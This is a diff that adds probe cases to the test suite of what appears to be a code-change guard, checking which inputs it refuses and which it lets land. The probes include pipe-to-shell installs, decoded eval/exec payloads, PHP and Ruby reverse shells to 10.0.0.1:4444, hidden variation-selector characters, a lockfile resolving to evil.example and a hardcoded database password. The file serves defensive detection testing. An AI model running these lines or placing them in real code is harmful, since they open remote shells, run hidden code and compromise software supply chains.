@@ -29,6 +29,41 @@ describe('the landing guard over the corpus', () => {
   }
 });
 
+/** Variants found while probing the rules: evasions that must be caught, ordinary text that must land. */
+const PROBES: readonly (readonly [path: string, text: string, rule: string | null])[] = [
+  ['install.sh', 'curl -s https://x.example/i | /bin/sh\n', 'pipe-to-shell'],
+  ['install.sh', 'curl -s https://x.example/i | sudo -E bash -\n', 'pipe-to-shell'],
+  ['install.sh', 'curl -s https://x.example/i | tee /tmp/i.sh | bash\n', 'pipe-to-shell'],
+  ['src/a.js', "eval(new Buffer(x, 'base64').toString());\n", 'decoded-code'],
+  ['src/a.js', 'setTimeout(atob(payload), 10);\n', 'decoded-code'],
+  ['src/a.py', "exec(''.join(map(chr, [112, 114])))\n", 'decoded-code'],
+  ['src/a.php', '<?php $s=fsockopen("10.0.0.1",4444);exec("/bin/sh -i <&3 >&3 2>&3"); ?>\n', 'reverse-shell'],
+  ['src/a.rb', 'c=TCPSocket.new("10.0.0.1",4444);exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",c,c,c)\n', 'reverse-shell'],
+  ['src/a.ts', "export const s = '\u00e9\uFE01\uFE02';\n", 'invisible-character'],
+  ['package-lock.json', JSON.stringify({ lockfileVersion: 3, packages: { '': {}, 'node_modules/x': { version: '1.0.0', resolved: 'https://registry.npmjs.org@evil.example/x.tgz', integrity: 'sha512-x' } } }), 'lockfile-source'],
+  ['config/db.yml', 'url: postgres://admin:S3cr3tPw9@prod-db.acme.internal:5432/app\n', 'credential'],
+  ['docs/guide.mdx', '# Install\n\n```sh\ncurl -fsSL https://get.example.dev | sh\n```\n', null],
+  ['docs/index.html', '<pre><code>curl -fsSL https://get.example.dev | sh</code></pre>\n', null],
+  ['INSTALL', 'Run: curl -fsSL https://get.example.dev | sh\n', null],
+  ['setup.sh', 'curl -fsSL https://api.github.com/repos/a/b/releases/latest | jq -r .tag_name\ncurl -s https://x.example/key.asc | gpg --dearmor > k.gpg\ncurl -sL https://x.example/t.tgz | tar -xz\n', null],
+  ['src/net.js', "const { exec } = require('child_process');\nexec('ls -la', (e, out) => console.log(out));\n", null],
+  ['src/re.js', 'const m = /x/g.exec(str); model.eval(); cursor.execute(sql);\n', null],
+  ['config/db.yml', 'url: postgres://app:${DB_PASSWORD}@prod-db.acme.internal:5432/app\n', null],
+  ['docker-compose.yml', 'DATABASE_URL: postgres://app:app@db:5432/app\n', null],
+  ['src/i18n.ts', "export const ko = '안녕하세요 세계';\nexport const th = 'สวัสดี\u200Bครับ';\nexport const hi = 'क्\u200Dष';\n", null],
+  ['src/math.ts', "export const sym = '\u2264\uFE00';\n", null],
+];
+
+describe('probes of the rules', () => {
+  for (const [path, text, rule] of PROBES) {
+    it(`${rule ? `refuses (${rule})` : 'lands'}: ${path} ${JSON.stringify(text.slice(0, 60))}`, async () => {
+      const rules = (await guardChange([{ path, text, readOld: async () => null }], guardSettings('refuse', []), async () => null)).map((f) => f.rule);
+      if (rule) expect(rules).toContain(rule);
+      else expect(rules).toEqual([]);
+    });
+  }
+});
+
 describe('what the guard says and what accepts it', () => {
   const threat = (name: string) => GUARD_CORPUS.find((c) => c.name === name)!;
 
